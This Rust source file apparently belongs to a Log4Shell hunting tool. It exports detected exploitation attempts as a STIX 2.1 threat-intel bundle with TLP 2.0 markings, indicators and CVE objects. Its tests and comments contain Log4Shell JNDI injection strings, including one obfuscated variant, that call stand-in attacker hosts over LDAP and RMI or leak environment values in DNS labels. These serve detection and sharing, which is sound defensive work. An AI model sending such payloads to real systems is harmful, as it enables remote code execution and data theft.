//! A hunt as a STIX 2.1 bundle, ready to share or to attach to a vulnshare threat report:
//! one indicator per callback host (`[domain-name:value = '...']` / `[ipv4-addr:value = '...']`),
//! observed data with network traffic per source address, the attack pattern and the
//! vulnerabilities they point at, all under one `report` and one TLP 2.0 marking.
//!
//! The TLP 2.0 markings are not predefined in STIX 2.1 (its four predefined markings are TLP 1.0,
//! and TLP 1.0 AMBER means something else). OASIS publishes them as objects using the property
//! extension `extension-definition--60a3c5c5-0d10-413e-aab3-9e08dde9e88d`
//! (cti-stix-common-objects, `extension-definition-specifications/tlp-2.0`); their ids and
//! `created` time are fixed by that publication, and consumers recognize them by id, so they are
//! copied here verbatim.

use std::net::IpAddr;

use jiff::Timestamp;
use serde_json::{Value, json};
use uuid::Uuid;
use vulnshare_core::tlp::Tlp;

use super::output::{Tally, TargetTally};

/// The OASIS extension definition that TLP 2.0 marking definitions declare.
pub const TLP_2_EXTENSION_ID: &str = "extension-definition--60a3c5c5-0d10-413e-aab3-9e08dde9e88d";

/// The `created` time of every OASIS TLP 2.0 marking definition.
pub const TLP_2_CREATED: &str = "2022-10-01T00:00:00.000Z";

/// The namespace STIX 2.1 (section 2.9) fixes for deterministic UUIDv5 ids of cyber observables.
const SCO_NAMESPACE: Uuid = Uuid::from_u128(0x00abedb4_aa42_466c_9c01_fed23315a9b7);

/// The OASIS id of the TLP 2.0 marking definition for `tlp`.
pub fn tlp_marking_id(tlp: Tlp) -> &'static str {
    match tlp {
        Tlp::Clear => "marking-definition--94868c89-83c2-464b-929b-a1a8aa3c8487",
        Tlp::Green => "marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb",
        Tlp::Amber => "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421",
        Tlp::AmberStrict => "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003",
        Tlp::Red => "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1",
    }
}

/// The OASIS TLP 2.0 marking definition object for `tlp`.
pub fn tlp_marking(tlp: Tlp) -> Value {
    json!({
        "type": "marking-definition",
        "spec_version": "2.1",
        "id": tlp_marking_id(tlp),
        "created": TLP_2_CREATED,
        "name": format!("TLP:{}", tlp.as_str()),
        "extensions": {
            TLP_2_EXTENSION_ID: {
                "extension_type": "property-extension",
                "tlp_2_0": tlp.as_str().to_lowercase(),
            }
        }
    })
}

/// The producer named when the user names none; it is described as a system, not an
/// organization.
pub const DEFAULT_PRODUCER: &str = "vulnshare hunt";

/// Who made the bundle, when, and how it may be shared.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StixOptions {
    /// The producer's name, for the `identity` object.
    pub producer: String,
    /// The sharing label of every object.
    pub tlp: Tlp,
    /// The time of the bundle (also `first_observed`, as logs carry no common time format).
    pub created: Timestamp,
}

/// RFC 3339 in UTC with milliseconds, as STIX examples write timestamps.
pub fn stix_time(time: Timestamp) -> String {
    format!(
        "{}.{:03}Z",
        time.strftime("%Y-%m-%dT%H:%M:%S"),
        time.subsec_millisecond().max(0)
    )
}

fn random_id(kind: &str) -> String {
    format!("{kind}--{}", Uuid::new_v4())
}

/// A cyber-observable id from its id-contributing properties (STIX 2.1 section 2.9).
fn observable_id(kind: &str, contributing: &Value) -> String {
    let canonical = serde_json::to_string(contributing).expect("JSON values serialize");
    format!(
        "{kind}--{}",
        Uuid::new_v5(&SCO_NAMESPACE, canonical.as_bytes())
    )
}

/// Quotes a value for a STIX pattern string literal.
fn pattern_literal(value: &str) -> String {
    format!("'{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
}

/// The part of a callback host an indicator can match: an IP address, or the domain left of
/// which every label with a lookup (`${env:USER}.x.attacker.example`) is dropped.
pub fn indicator_host(host: &str) -> Option<(&'static str, String)> {
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    if let Ok(ip) = bare.parse::<IpAddr>() {
        let kind = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        return Some((kind, ip.to_string()));
    }
    let labels: Vec<&str> = host.split('.').collect();
    let keep = labels
        .iter()
        .rposition(|l| {
            !l.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
        .map_or(0, |i| i + 1);
    let domain = labels[keep..].join(".").to_ascii_lowercase();
    let valid = labels.len() - keep >= 2 && labels[keep..].iter().all(|l| !l.is_empty());
    valid.then_some(("domain-name", domain))
}

fn host_description(host: &str, target: &TargetTally) -> String {
    let mut text = format!(
        "Log4Shell callback host {host} named in {} exploitation attempt(s)",
        target.hits
    );
    if !target.protocols.is_empty() {
        let protocols: Vec<&str> = target.protocols.iter().map(String::as_str).collect();
        text.push_str(&format!("; JNDI protocols {}", protocols.join(", ")));
    }
    if !target.ports.is_empty() {
        let ports: Vec<String> = target.ports.iter().map(u16::to_string).collect();
        text.push_str(&format!("; ports {}", ports.join(", ")));
    }
    if !target.exfiltration.is_empty() {
        let leaks: Vec<&str> = target.exfiltration.iter().map(String::as_str).collect();
        text.push_str(&format!("; exfiltrates {}", leaks.join(", ")));
    }
    text
}

/// Builds the bundle for a hunt's tally.
pub fn bundle(tally: &Tally, options: &StixOptions) -> Value {
    let now = stix_time(options.created);
    let marking = tlp_marking_id(options.tlp);
    let identity_id = random_id("identity");
    // Common properties of every object the hunt creates.
    let sdo = |kind: &str, id: &str, mut body: Value| {
        let object = body.as_object_mut().expect("objects are JSON objects");
        object.insert("type".into(), kind.into());
        object.insert("spec_version".into(), "2.1".into());
        object.insert("id".into(), id.into());
        object.insert("created".into(), now.clone().into());
        object.insert("modified".into(), now.clone().into());
        object.insert("created_by_ref".into(), identity_id.clone().into());
        object.insert("object_marking_refs".into(), json!([marking]));
        body
    };
    let mut objects = vec![tlp_marking(options.tlp)];
    let mut identity = sdo(
        "identity",
        &identity_id,
        json!({
            "name": options.producer,
            "identity_class": if options.producer == DEFAULT_PRODUCER { "system" } else { "organization" },
        }),
    );
    identity.as_object_mut().unwrap().remove("created_by_ref");
    objects.push(identity);
    let mut reported = Vec::new();

    let attack_pattern_id = random_id("attack-pattern");
    objects.push(sdo(
        "attack-pattern",
        &attack_pattern_id,
        json!({
            "name": "Log4Shell JNDI lookup injection",
            "description": "Attacker text with a log4j 2 lookup (${jndi:...}, possibly obfuscated) reaches a log call, so the victim fetches and runs remote code or leaks data in DNS names.",
            "external_references": [{
                "source_name": "mitre-attack",
                "external_id": "T1190"
            }]
        }),
    ));
    reported.push(attack_pattern_id.clone());
    let mut cves = vec!["CVE-2021-44228"];
    if tally.hits_per_class.contains_key("recursion_dos") {
        cves.push("CVE-2021-45105");
    }
    for cve in cves {
        let vulnerability_id = random_id("vulnerability");
        objects.push(sdo(
            "vulnerability",
            &vulnerability_id,
            json!({"name": cve, "external_references": [{"source_name": "cve", "external_id": cve}]}),
        ));
        let relationship_id = random_id("relationship");
        objects.push(sdo(
            "relationship",
            &relationship_id,
            json!({"relationship_type": "targets", "source_ref": attack_pattern_id, "target_ref": vulnerability_id}),
        ));
        reported.extend([vulnerability_id, relationship_id]);
    }

    for (host, target) in &tally.targets {
        let Some((kind, value)) = indicator_host(host) else {
            continue;
        };
        let indicator_id = random_id("indicator");
        objects.push(sdo(
            "indicator",
            &indicator_id,
            json!({
                "name": format!("Log4Shell callback {value}"),
                "description": host_description(host, target),
                "indicator_types": ["malicious-activity"],
                "pattern": format!("[{kind}:value = {}]", pattern_literal(&value)),
                "pattern_type": "stix",
                "pattern_version": "2.1",
                "valid_from": now,
            }),
        ));
        let relationship_id = random_id("relationship");
        objects.push(sdo(
            "relationship",
            &relationship_id,
            json!({"relationship_type": "indicates", "source_ref": indicator_id, "target_ref": attack_pattern_id}),
        ));
        reported.extend([indicator_id, relationship_id]);
    }

    for (ip, hits) in &tally.sources {
        let kind = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        let address_id = observable_id(kind, &json!({"value": ip.to_string()}));
        let traffic_id = observable_id(
            "network-traffic",
            &json!({"protocols": ["tcp"], "src_ref": address_id}),
        );
        objects.push(json!({
            "type": kind, "spec_version": "2.1", "id": address_id, "value": ip.to_string(),
            "object_marking_refs": [marking],
        }));
        objects.push(json!({
            "type": "network-traffic", "spec_version": "2.1", "id": traffic_id,
            "src_ref": address_id, "protocols": ["tcp"], "object_marking_refs": [marking],
        }));
        let observed_id = random_id("observed-data");
        objects.push(sdo(
            "observed-data",
            &observed_id,
            json!({
                "first_observed": now,
                "last_observed": now,
                "number_observed": (*hits).clamp(1, 999_999_999),
                "object_refs": [address_id, traffic_id],
            }),
        ));
        reported.push(observed_id);
    }

    let report_id = random_id("report");
    let classes: Vec<String> = tally
        .hits_per_class
        .iter()
        .map(|(class, n)| format!("{class} {n}"))
        .collect();
    objects.push(sdo(
        "report",
        &report_id,
        json!({
            "name": format!("Log4Shell exploitation attempts: {} hit(s)", tally.hits()),
            "description": format!(
                "Found by vulnshare hunt: {}; {} callback host(s), {} source address(es).",
                classes.join(", "), tally.targets.len(), tally.sources.len()
            ),
            "report_types": ["threat-report"],
            "published": now,
            "object_refs": reported,
        }),
    ));
    json!({"type": "bundle", "id": random_id("bundle"), "objects": objects})
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hunt::Hunter;

    fn tally(lines: &[&str]) -> Tally {
        let mut tally = Tally::default();
        for line in lines {
            for hit in Hunter::default().scan_line(line.as_bytes()) {
                tally.record("t.log", &hit);
            }
        }
        tally
    }

    #[test]
    fn hosts_become_matchable_values() {
        assert_eq!(
            indicator_host("evil.example"),
            Some(("domain-name", "evil.example".into()))
        );
        assert_eq!(
            indicator_host("${env:user}.x.Attacker.example"),
            Some(("domain-name", "x.attacker.example".into()))
        );
        assert_eq!(
            indicator_host("1.2.3.4"),
            Some(("ipv4-addr", "1.2.3.4".into()))
        );
        assert_eq!(indicator_host("[::1]"), Some(("ipv6-addr", "::1".into())));
        assert_eq!(indicator_host("${hostName}"), None);
        assert_eq!(indicator_host("localhost"), None);
    }

    #[test]
    fn bundle_shape() {
        let tally = tally(&[
            r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://evil.example:1389/a}""#,
            "${jndi:rmi://198.51.100.9/x}",
            "${${::-${::-$${::-j}}}}",
        ]);
        let options = StixOptions {
            producer: "Example SOC".into(),
            tlp: Tlp::Amber,
            created: "2026-11-23T11:27:18.5Z".parse().unwrap(),
        };
        let bundle = bundle(&tally, &options);
        let objects = bundle["objects"].as_array().unwrap();
        let of = |kind: &'static str| objects.iter().filter(move |o| o["type"] == kind);
        let patterns: Vec<&str> = of("indicator")
            .map(|o| o["pattern"].as_str().unwrap())
            .collect();
        assert_eq!(
            patterns,
            [
                "[ipv4-addr:value = '198.51.100.9']",
                "[domain-name:value = 'evil.example']"
            ]
        );
        assert_eq!(of("observed-data").count(), 1);
        assert_eq!(of("vulnerability").count(), 2);
        let marking = of("marking-definition").next().unwrap();
        assert_eq!(marking["id"], tlp_marking_id(Tlp::Amber));
        assert_eq!(
            marking["extensions"][TLP_2_EXTENSION_ID]["tlp_2_0"],
            "amber"
        );
        for object in objects {
            let id = object["id"].as_str().unwrap();
            let (kind, uuid) = id.split_once("--").unwrap();
            assert_eq!(kind, object["type"]);
            assert!(Uuid::parse_str(uuid).is_ok());
            if object["type"] != "marking-definition" {
                assert_eq!(object["object_marking_refs"][0], tlp_marking_id(Tlp::Amber));
            }
            if let Some(created) = object.get("created") {
                assert_eq!(created.as_str().unwrap().len(), 24, "{created}");
            }
        }
        let report = of("report").next().unwrap();
        assert_eq!(report["created"], "2026-11-23T11:27:18.500Z");
        assert!(report["object_refs"].as_array().unwrap().len() >= 8);
    }

    #[test]
    fn pattern_literals_are_escaped() {
        assert_eq!(pattern_literal(r"a'b\c"), r"'a\'b\\c'");
    }
}
